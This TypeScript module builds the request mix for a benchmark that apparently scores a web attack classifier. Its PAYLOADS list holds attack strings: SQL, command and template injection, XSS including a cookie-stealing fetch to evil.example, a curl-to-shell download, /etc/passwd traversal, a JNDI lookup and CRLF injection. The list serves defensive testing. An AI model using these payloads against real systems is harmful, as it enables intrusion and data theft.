/**
 * The benchmark's request mix: what "a typical request" means in the figures.
 *
 * Every request is under 2 KB (method, target, header lines and body), deterministic (seeded), and one of:
 *
 * | share | kind | what |
 * | --- | --- | --- |
 * | 35 % | `browser` | a page or search GET with a full desktop or mobile browser header set (Chrome, Firefox, Safari: `sec-ch-ua*`, `sec-fetch-*`, accept family, cookies, referer), 1 to 4 query parameters |
 * | 10 % | `static` | an asset GET (script, style, image) with browser headers, no query |
 * | 15 % | `api` | a JSON API call: GET with a bearer token, or POST/PUT of a small JSON document |
 * | 10 % | `form` | a urlencoded form POST from a browser |
 * | 10 % | `fixture` | a benign record of `test/fixtures/requests.jsonl` (curl, HEAD, unicode, multipart, ...) |
 * | 20 % | `attack` | a payload (SQLi, XSS, command injection, traversal, SSTI, JNDI, CRLF, ...) injected into one of the above (query, form, JSON, cookie or a header), or an attack record of the fixtures |
 *
 * Half of the requests go to a tenant that has an adapted head (`shop.example.com`), half to tenants
 * without one (the global head scores them).
 *
 * @module
 */
import type { RequestRecord } from "../../src/record/record.ts";
import { prng } from "../../src/model/random.ts";

/** One request of the mix. */
export interface BenchRequest {
  kind: "browser" | "static" | "api" | "form" | "fixture" | "attack";
  /** 1 for an attack. */
  label: 0 | 1;
  /** Host (the default tenant resolver's tenant). */
  host: string;
  method: string;
  /** Path and query. */
  target: string;
  headers: [string, string][];
  body?: string;
}

/** The tenant whose requests are scored with an adapted head. */
export const HEAD_TENANT = "shop.example.com";
/** Tenants without a head. */
export const OTHER_TENANTS = ["blog.example.org", "api.example.net"];

const CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) " +
  "Chrome/120.0.0.0 Safari/537.36";
const FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0";
const SAFARI =
  "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) " +
  "Version/17.1 Mobile/15E148 Safari/604.1";

const PAGES = [
  "/",
  "/shop/products/1234",
  "/shop/category/shoes",
  "/search",
  "/blog/2024/05/edge-ml-in-practice",
  "/account/orders",
  "/cart",
  "/help/shipping-and-returns",
];
const ASSETS = [
  "/static/js/app.3f9a1c.js",
  "/static/css/main.8d1e.css",
  "/images/products/1234-large.webp",
  "/favicon.ico",
  "/fonts/inter-var.woff2",
];
const API_PATHS = ["/api/v1/users/42/orders", "/api/v1/cart/items", "/api/v2/search", "/api/graphql"];
const KEYS = ["q", "id", "page", "sort", "category", "lang", "ref", "limit", "utm_source", "size", "color"];
const VALUES = [
  "red running shoes",
  "42",
  "price_asc",
  "en-US",
  "2",
  "newsletter",
  "Zürich café",
  "2024-05-01",
  "a1b2c3d4e5f6",
  "true",
  "trail-runner-gtx",
  "XL",
];
const PAYLOADS = [
  "' OR 1=1--",
  "1 UNION SELECT username, password FROM users--",
  "1' AND SLEEP(5)#",
  "<script>alert(document.cookie)</script>",
  '"><img src=x onerror=alert(1)>',
  "<svg/onload=fetch('//evil.example/'+document.cookie)>",
  "; cat /etc/passwd",
  "$(curl http://evil.example/x.sh | sh)",
  "`id`",
  "../../../../etc/passwd",
  "..%2f..%2f..%2fwindows%5cwin.ini",
  "{{7*7}}{{config.__class__.__init__.__globals__}}",
  "${jndi:ldap://evil.example/a}",
  "%0d%0aSet-Cookie:%20admin=1",
  "admin)(|(password=*))",
  '{"$gt": ""}',
];

function browserHeaders(ua: string, rnd: () => number, host: string): [string, string][] {
  const h: [string, string][] = [
    ["user-agent", ua],
    [
      "accept",
      "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    ],
    ["accept-language", rnd() < 0.7 ? "en-US,en;q=0.9" : "de-CH,de;q=0.9,en;q=0.8"],
    ["accept-encoding", "gzip, deflate, br"],
    ["upgrade-insecure-requests", "1"],
    ["sec-fetch-dest", "document"],
    ["sec-fetch-mode", "navigate"],
    ["sec-fetch-site", "same-origin"],
    ["sec-fetch-user", "?1"],
  ];
  if (ua === CHROME) {
    h.push(["sec-ch-ua", '"Not_A Brand";v="8", "Chromium";v="120", "Google Chrome";v="120"']);
    h.push(["sec-ch-ua-mobile", "?0"], ["sec-ch-ua-platform", '"Windows"']);
  }
  if (rnd() < 0.8) {
    const id = Math.floor(rnd() * 1e9).toString(36);
    h.push(["cookie", `session=eyJhbGciOiJIUzI1NiJ9.${id}.sig; _ga=GA1.2.${id}.1700000000; theme=dark`]);
  }
  if (rnd() < 0.7) h.push(["referer", `https://${host}/shop/category/shoes?page=1`]);
  return h;
}

function query(n: number, pick: <T>(xs: readonly T[]) => T): string {
  const parts: string[] = [];
  for (let i = 0; i < n; i++) {
    parts.push(`${pick(KEYS)}=${encodeURIComponent(pick(VALUES)).replace(/%20/g, "+")}`);
  }
  return parts.length ? "?" + parts.join("&") : "";
}

/** Bytes on the wire, roughly: request line, header lines, body. */
export function requestSize(r: BenchRequest): number {
  let n = r.method.length + r.target.length + 12 + r.host.length + 8;
  for (const [k, v] of r.headers) n += k.length + v.length + 4;
  return n + (r.body ? new TextEncoder().encode(r.body).length : 0);
}

function fixtureRecords(): (RequestRecord & { label: 0 | 1 })[] {
  return Deno.readTextFileSync(new URL("../../test/fixtures/requests.jsonl", import.meta.url))
    .split("\n").filter((l) => l).map((l) => JSON.parse(l));
}

function fromRecord(
  rec: RequestRecord,
  host: string,
  kind: BenchRequest["kind"],
  label: 0 | 1,
): BenchRequest {
  const u = new URL(rec.url, `http://${host}`);
  const headers: [string, string][] = [];
  for (const [k, v] of Object.entries(rec.headers ?? {})) {
    const name = k.toLowerCase();
    if (name === "host" || name === "content-length") continue;
    headers.push([name, v]);
  }
  return { kind, label, host, method: rec.method, target: u.pathname + u.search, headers, body: rec.body };
}

/**
 * The mix: `n` requests under 2 KB, in a deterministic shuffled order.
 *
 * @param n How many.
 * @param seed Generator seed.
 */
export function typicalMix(n: number, seed = 7): BenchRequest[] {
  const rng = prng(seed);
  const rnd = () => rng.uniform();
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)];
  const fixtures = fixtureRecords().filter((r) => r.url.length + JSON.stringify(r).length < 2048);
  const benignFixtures = fixtures.filter((r) => r.label === 0);
  const attackFixtures = fixtures.filter((r) => r.label === 1);

  const benign = (host: string): BenchRequest => {
    const u = rnd();
    const ua = pick([CHROME, CHROME, FIREFOX, SAFARI]);
    if (u < 0.35 / 0.8) {
      const path = pick(PAGES);
      return {
        kind: "browser",
        label: 0,
        host,
        method: "GET",
        target: path + query(1 + Math.floor(rnd() * 4), pick),
        headers: browserHeaders(ua, rnd, host),
      };
    }
    if (u < 0.45 / 0.8) {
      const h = browserHeaders(ua, rnd, host).filter(([k]) => !k.startsWith("sec-fetch-user"));
      h[1] = ["accept", "*/*"];
      return { kind: "static", label: 0, host, method: "GET", target: pick(ASSETS), headers: h };
    }
    if (u < 0.6 / 0.8) {
      const headers: [string, string][] = [
        ["user-agent", pick(["ShopApp/4.2.1 (iPhone; iOS 17.1; Scale/3.00)", "okhttp/4.12.0", CHROME])],
        ["accept", "application/json"],
        [
          "authorization",
          `Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.${Math.floor(rnd() * 1e12).toString(36)}.sig`,
        ],
        ["x-request-id", crypto.randomUUID()],
      ];
      if (rnd() < 0.5) {
        return {
          kind: "api",
          label: 0,
          host,
          method: "GET",
          target: pick(API_PATHS) + query(Math.floor(rnd() * 3), pick),
          headers,
        };
      }
      headers.push(["content-type", "application/json"]);
      const body = JSON.stringify({
        id: Math.floor(rnd() * 10000),
        name: pick(VALUES),
        qty: 1 + Math.floor(rnd() * 5),
        tags: [pick(VALUES), pick(VALUES)],
        address: { city: pick(["Bern", "Lyon", "Austin"]), zip: String(10000 + Math.floor(rnd() * 89999)) },
      });
      return {
        kind: "api",
        label: 0,
        host,
        method: pick(["POST", "PUT"]),
        target: pick(API_PATHS),
        headers,
        body,
      };
    }
    if (u < 0.7 / 0.8) {
      const headers = browserHeaders(ua, rnd, host);
      headers.push(["content-type", "application/x-www-form-urlencoded"], ["origin", `https://${host}`]);
      const body = `email=${encodeURIComponent("jane.doe@example.com")}&name=${
        encodeURIComponent(pick(VALUES))
      }&qty=${1 + Math.floor(rnd() * 9)}&newsletter=on&csrf=${Math.floor(rnd() * 1e12).toString(36)}`;
      return {
        kind: "form",
        label: 0,
        host,
        method: "POST",
        target: pick(["/cart/add", "/account/profile", "/contact"]),
        headers,
        body,
      };
    }
    return fromRecord(pick(benignFixtures), host, "fixture", 0);
  };

  const attack = (host: string): BenchRequest => {
    if (rnd() < 0.3) return fromRecord(pick(attackFixtures), host, "attack", 1);
    const r = benign(host);
    const p = pick(PAYLOADS);
    const where = rnd();
    r.kind = "attack";
    r.label = 1;
    if (r.body !== undefined && r.method !== "GET" && where < 0.5) {
      if (r.headers.some(([k, v]) => k === "content-type" && v.includes("json"))) {
        r.body = JSON.stringify({ id: 1, name: p, qty: 1 });
      } else r.body = `email=x%40example.com&name=${encodeURIComponent(p)}&qty=1`;
    } else if (where < 0.75) {
      const sep = r.target.includes("?") ? "&" : "?";
      r.target += `${sep}${pick(KEYS)}=${encodeURIComponent(p)}`;
    } else if (where < 0.88) {
      r.headers = r.headers.filter(([k]) => k !== "cookie");
      r.headers.push(["cookie", `session=abc123; pref=${p.replace(/;/g, "%3B")}`]);
    } else {
      r.headers.push([pick(["x-forwarded-for", "x-api-version", "user-agent"]), p]);
    }
    return r;
  };

  const out: BenchRequest[] = [];
  while (out.length < n) {
    const host = rnd() < 0.5 ? HEAD_TENANT : pick(OTHER_TENANTS);
    const r = rnd() < 0.2 ? attack(host) : benign(host);
    // Header names are unique per request (as a client sends them): the last one wins.
    const seen = new Map<string, string>();
    for (const [k, v] of r.headers) seen.set(k, v);
    r.headers = [...seen];
    if (requestSize(r) < 2048) out.push(r);
  }
  return out;
}

/** The request's URL. */
export function urlOf(r: BenchRequest): string {
  return `http://${r.host}${r.target}`;
}

/** A fresh Web `Request` (its body can be read once). */
export function toRequest(r: BenchRequest): Request {
  return new Request(urlOf(r), { method: r.method, headers: r.headers, body: r.body });
}

/** The canonical record of a request (what training and `viewFromRecord` read). */
export function toRecord(r: BenchRequest): RequestRecord {
  const headers: Record<string, string> = { host: r.host };
  for (const [k, v] of r.headers) headers[k] = v;
  return { method: r.method, url: r.target, headers, body: r.body };
}

/** A 1 MB request: a browser POST of a 1 MiB text body (the extractor reads its cap, the rest is skipped). */
export function oneMegabyte(): BenchRequest {
  const line = "Lorem ipsum dolor sit amet, consectetur adipiscing elit; sed do eiusmod tempor 0123456789.\n";
  const body = line.repeat(Math.ceil((1 << 20) / line.length)).slice(0, 1 << 20);
  return {
    kind: "form",
    label: 0,
    host: HEAD_TENANT,
    method: "POST",
    target: "/upload/notes?draft=1",
    headers: [
      ["user-agent", CHROME],
      ["accept", "*/*"],
      ["content-type", "text/plain; charset=utf-8"],
      ["cookie", "session=eyJhbGciOiJIUzI1NiJ9.abc.sig; theme=dark"],
    ],
    body,
  };
}
